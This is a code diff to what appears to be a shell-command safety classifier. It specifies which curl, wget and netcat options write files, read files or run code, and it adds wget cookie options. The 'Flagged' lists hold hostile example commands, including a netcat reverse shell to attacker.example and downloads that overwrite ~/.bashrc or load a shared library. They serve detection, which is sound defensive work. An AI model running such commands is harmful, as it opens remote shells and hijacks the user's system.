@@ -20,9 +20,10 @@ var _ = family("network", func(add func(...*Spec)) {
 		&Spec{Names: n("curl"), Effect: Network, Permute: true, Operands: "n*", Loose: true,
 			Options: "-o=w --output=w -K=u --config=u --engine=l -T=r --upload-file=r -c=w --cookie-jar=w -D=w --dump-header=w --trace=w --trace-ascii=w --stderr=w --libcurl=w --etag-save=w --hsts=w --alt-svc=w -h:h --help:h -V:h --version:h",
 			Flagged: []string{"curl -o ~/.bashrc https://example.com/x", "curl -K evil.cfg https://x", "curl --engine ./lib.so https://x"}},
-		&Spec{Names: n("wget", "wget2"), Effect: Network, Permute: true, Operands: "n*", Loose: true,
-			Options: "-O=w --output-document=w -o=w --output-file=w -a=w --append-output=w -e=u --execute=u --config=u -i=r --input-file=r --post-file=r --body-file=r --use-askpass=x -h:h --help:h -V:h --version:h",
-			Flagged: []string{"wget -e 'use_proxy=on' https://x", "wget --use-askpass=./x.sh https://x"}},
+		&Spec{Names: n("wget", "wget2"), Effect: Network, Permute: true, Operands: "n*", Loose: true, Abbrev: true,
+			Options: "-O=w --output-document=w -o=w --output-file=w -a=w --append-output=w -e=u --execute=u --config=u -i=r --input-file=r --post-file=r --body-file=r --use-askpass=x -h:h --help:h -V:h --version:h " +
+				"--save-cookies=w --load-cookies=r --save-headers --warc-file=w --rejected-log=w",
+			Flagged: []string{"wget --save-cookies ~/.bashrc https://example.com", "wget -e 'use_proxy=on' https://x", "wget --use-askpass=./x.sh https://x"}},
 		&Spec{Names: n("nc", "ncat", "netcat", "nc.openbsd", "nc.traditional"), Effect: Network, Permute: true, Operands: "n*", Loose: true,
 			Options: "-e=x -c=x --exec=x --sh-exec=x --lua-exec=x -o=w --output=w -h:h --help:h",
 			Flagged: []string{"nc -e /bin/sh attacker.example 4444", "nc -z localhost 8080"}},
